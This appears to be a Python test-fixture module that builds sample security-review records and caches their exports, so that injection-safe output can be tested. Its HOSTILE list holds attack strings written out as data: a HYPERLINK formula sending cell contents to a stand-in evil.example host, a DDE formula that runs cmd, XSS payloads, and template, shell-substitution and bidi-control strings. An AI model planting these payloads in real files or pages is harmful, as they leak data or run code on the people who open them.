"""Made-up reviews that all tests share: the same ones each time, of the catalogue that is given."""

from collections.abc import Callable, Sequence
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import NAMESPACE_URL, uuid5

from vger_guide.catalog.catalog import Catalog
from vger_guide.catalog.editions import text_hash
from vger_guide.catalog.rules import Rule
from vger_guide.output.reviews.formats import load_format
from vger_guide.reviews.context import ReviewContext
from vger_guide.reviews.models import Review, Selection, Target
from vger_guide.reviews.score import score, tally
from vger_guide.reviews.selection import create_review, selected_rules

EDITION = "next"
NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
TODAY = date(2026, 3, 9)
LAPSED = date(2026, 3, 8)
COMING = date(2026, 9, 30)

SHOP = Target(id="shop", name="Web shop", description="What customers see.", repository="https://git.example/shop.git")
TILL = Target(id="till", name="Till", repository="till")
STORE = Target(id="store-2", name="Store")

# What people might type, and others would like to see run.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]><!--&amp;&#x3c;%3C-->",
    "</textarea></td></table><!-- --!>",
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) | `code` *bold* # head",
    "- [x] done\n- [ ] <!-- vger SES004 -->\n```\n~~~",
    "@everyone #1 GH-1 :smile: www.evil.example $x^2$",
    'say "yes", it\'s; a\\b "" \'\' “so”',
    "one\ntwo\r\nthree\rfour\u2028five\u2029six\x85seven",
    "\u202eright to left\u202c \u200f\u05e2\u05d1 \u0627\u0644\u200e \u2066x\u2069",
    "👩\u200d👩\u200d👧 e\u0301 \U0001d518 \u200b\ufeff\ufffe\uffff",
    "\x00\x01\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x9b2J",
    "   spaces at both ends   ",
    "_x000D_ _x0041_",
    "{{ config }} {% raw %} ${HOME} $(id) `id` %s {0}",
    "1e5",
    "00012",
    "TRUE",
    "2026-03-02",
    "NULL",
    "x" * 10_000,
    "漢" * 10_000,
    "a b " * 2_500,
    "\n" * 10_000,
]
# A text that is long is slow in every form, so it stands once in each field, and the others again and again.
SHORT = [text for text in HOSTILE if len(text) < 1000]
HOSTILE_ADDRESS = "https://evil.example/\"><script>alert(1)</script>?a=1&b='2'#=cmd|x \u202e\n"


def empty(catalog: Catalog) -> Review:
    """Return a review that nobody has answered, of all rules."""
    return _made(catalog, "empty", Selection(), [SHOP])


def half(catalog: Catalog) -> Review:
    """Return a review of a profile in which every second rule is answered, in all ways."""
    review = _made(catalog, "half", Selection(profile="api"), [SHOP])
    return _with(review, answers=_answers(selected_rules(catalog, review.selection)[::2], [SHOP]), people=PEOPLE)


def full(catalog: Catalog) -> Review:
    """Return a review with something in every field, keys of other tools included, every rule answered."""
    review = _made(catalog, "full", Selection(), [SHOP])
    return _filled(catalog, review)


def several(catalog: Catalog) -> Review:
    """Return the same of three targets, of two chapters, signed off."""
    review = _made(catalog, "several", Selection(chapters=["2", "3"]), [SHOP, TILL, STORE])
    return _with(_filled(catalog, review), state="signed-off")


def hostile(catalog: Catalog) -> Review:
    """Return a review with a hostile text in every field that takes one, each of HOSTILE in some of them."""
    targets = [
        {"id": "a", "name": _line(0), "description": HOSTILE[7], "repository": _line(10)},
        {"id": "b", "name": _line(7), "description": HOSTILE[0], "repository": _line(14)},
    ]
    review = _made(catalog, "hostile", Selection(), [Target(**target) for target in targets])
    rules = selected_rules(catalog, review.selection)
    return _with(
        review,
        title=_line(7),
        commit=_line(1),
        language=_line(13),
        content_hash=_line(3),
        people=[{"id": f"p{n}", "name": _line(n), "role": _line(n + 1)} for n in range(len(HOSTILE))],
        answers={rule.id: {target: _nasty(rule, n + (target == "b")) for target in "ab"} for n, rule in _told(rules)},
        outcomes={rule.id: {"a": _nasty_outcome(n)} for n, rule in _told(rules)},
        milestones=[_milestone(catalog, review, _line(0))],
        migrations=[{"from_edition": _line(0), "to_edition": _line(7), "at": NOW}],
        **{"=1+1": {"<b>": HOSTILE}},
    )


MAKERS: dict[str, Callable[[Catalog], Review]] = {
    "empty": empty,
    "half": half,
    "full": full,
    "several": several,
    "hostile": hostile,
}


# What many tests look at is made once, as nothing of it can be changed. A context keeps its catalogue, so that an id
# of one is no other's.
_FILLED: dict[tuple[int, str], ReviewContext] = {}
_WRITTEN: dict[tuple[int, str], bytes] = {}


def filled(catalog: Catalog, name: str) -> ReviewContext:
    """Return the review of a name of MAKERS as exports take it, on TODAY."""
    key = (id(catalog), name)
    if key not in _FILLED:
        _FILLED[key] = ReviewContext(catalog, MAKERS[name](catalog), TODAY)
    return _FILLED[key]


def write(context: ReviewContext, form: str) -> bytes:
    """Return a review in a form, to be looked at; one of `filled` is written once."""
    if not any(context is each for each in _FILLED.values()):
        return load_format(form).write(context)
    key = (id(context), form)
    if key not in _WRITTEN:
        _WRITTEN[key] = load_format(form).write(context)
    return _WRITTEN[key]


PEOPLE = [
    {"id": "ada", "name": "Ada Example", "role": "Architect"},
    {"id": "bo", "name": "Bo Example", "role": "Owner"},
]


def _made(catalog: Catalog, name: str, selection: Selection, targets: Sequence[Target]) -> Review:
    review = create_review(catalog, EDITION, f"Review {name}", selection, targets, NOW)
    return _with(review, id=str(uuid5(NAMESPACE_URL, f"https://vger-guide.example/tests/{name}")))


def _with(review: Review, **fields: Any) -> Review:
    """Return the review with fields in it that are validated as those of a file are."""
    return Review.model_validate({**review.model_dump(mode="json", by_alias=True), **fields})


def _filled(catalog: Catalog, review: Review) -> Review:
    rules = selected_rules(catalog, review.selection)
    return _with(
        review,
        state="in-review",
        commit="0123456789abcdef0123456789abcdef01234567",
        people=PEOPLE,
        answers=_answers(rules, review.targets),
        outcomes={rule.id: {target.id: _outcome(n) for target in review.targets} for n, rule in _told(rules)},
        milestones=[_milestone(catalog, review, "Before the release")],
        migrations=[{"from_edition": "2023.09", "to_edition": EDITION, "at": NOW, "kept": [rules[0].id]}],
        **{"x-tool": {"seen": [1, 2.5, None, "kept"]}},
    )


def _told(rules: Sequence[Rule]) -> list[tuple[int, Rule]]:
    return list(enumerate(rules))


def _answers(rules: Sequence[Rule], targets: Sequence[Target]) -> dict[str, Any]:
    return {
        rule.id: {target.id: _answer(rule, n + shift) for shift, target in enumerate(targets)}
        for n, rule in _told(rules)
    }


def _answer(rule: Rule, n: int) -> dict[str, Any]:
    """Return the answer to a rule: of eight kinds in turn."""
    kinds: list[dict[str, Any]] = [
        {"value": "met", "confidence": "high", "evidence": [_EVIDENCE]},
        {"value": "partial", "comment": "The old part does not.\n\nThe new one does.", "confidence": "medium"},
        {"value": "not-met", "disposition": _planned(COMING)},
        {"value": "not-met", "disposition": _planned(LAPSED)},
        {"not_applicable": {"code": "no-such-part", "text": "There is no database."}},
        {"value": "not-met", "disposition": {**_planned(COMING), "plan": "risk-accepted", "approver": "bo"}},
        {"value": "met", "carried_from": "2023.09", "confirm": True, "confidence": "low"},
        {"value": "unanswered", "comment": "Ask Bo."},
    ]
    at = (NOW + timedelta(minutes=n)).isoformat()
    return {"revision": rule.revision, "text_hash": text_hash(rule), "by": "ada", "at": at, **kinds[n % len(kinds)]}


_EVIDENCE = {
    "description": "The settings of the store",
    "address": "https://git.example/shop/blob/main/settings.py#L3",
    "commit": "0123456789abcdef0123456789abcdef01234567",
    "path": "shop/settings.py",
    "line": 3,
    "seen": "2026-03-01",
}


def _planned(until: date) -> dict[str, Any]:
    return {"plan": "planned", "owner": "bo", "until": until.isoformat(), "ticket": "SHOP-12"}


def _outcome(n: int) -> dict[str, Any]:
    """Return what a check said: of six kinds in turn, so that some agree with the answers and some do not."""
    kinds = ("pass", "fail", "not-applicable", "manual", "unavailable", "error")
    kind = kinds[n % len(kinds)]
    found = {"findings": 2, "places": ["shop/settings.py:3", "shop/app.py:7:1"]} if kind == "fail" else {}
    strength = "proof" if n % 2 else "indication"
    commit = "0123456789abcdef0123456789abcdef01234567"
    told = {"outcome": kind, "strength": strength, "reason": f"It said {kind}.", "commit": commit, "tool": "vger 0.1"}
    return {**told, **found, "at": NOW.isoformat()}


def _milestone(catalog: Catalog, review: Review, title: str) -> dict[str, Any]:
    rules = selected_rules(catalog, review.selection)
    answers = _answers(rules[:3], review.targets)
    old = _with(review, answers=answers)
    counts = score([tally(old, rules, review.targets[0].id, TODAY)])
    return {"id": "before", "title": title, "at": NOW.isoformat(), "answers": answers, "score": counts.model_dump()}


def _text(n: int) -> str:
    return HOSTILE[n] if n < len(HOSTILE) else SHORT[n % len(SHORT)]


def _line(n: int) -> str:
    return _text(n)[:400]


def _nasty(rule: Rule, n: int) -> dict[str, Any]:
    text = _text(n)
    answer = _answer(rule, n)
    if "not_applicable" in answer:
        answer["not_applicable"] = {"code": "other", "text": text}
    return {
        **answer,
        "comment": text,
        "evidence": [
            {"description": text, "address": HOSTILE_ADDRESS, "commit": _line(n), "path": _line(n), "line": 2**31}
        ],
        "disposition": {
            "plan": "planned",
            "owner": _line(n),
            "until": COMING.isoformat(),
            "approver": _line(n + 1),
            "ticket": _line(n + 2),
        },
        "by": _line(n),
        "carried_from": _line(n),
        "=x<b>": text,
    }


def _nasty_outcome(n: int) -> dict[str, Any]:
    return {**_outcome(n), "reason": _text(n), "places": [_line(n)], "commit": _line(n)}
